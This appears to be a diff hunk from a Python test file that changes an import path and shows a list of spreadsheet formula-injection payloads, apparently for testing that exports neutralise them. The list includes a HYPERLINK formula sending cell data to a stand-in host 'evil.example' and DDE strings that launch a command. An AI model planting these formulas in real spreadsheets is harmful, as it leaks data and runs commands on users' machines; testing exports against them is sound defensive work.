@@ -15,8 +15,8 @@ from conftest import City, basic, visit, wait_for_user
 from openpyxl import load_workbook
 
 from server.admin import directory
+from server.domain import exports
 from server.domain.scope import grid_db
-from server.sync import exports
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点我")', "+1+cmd|' /C calc'!A0",
             "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
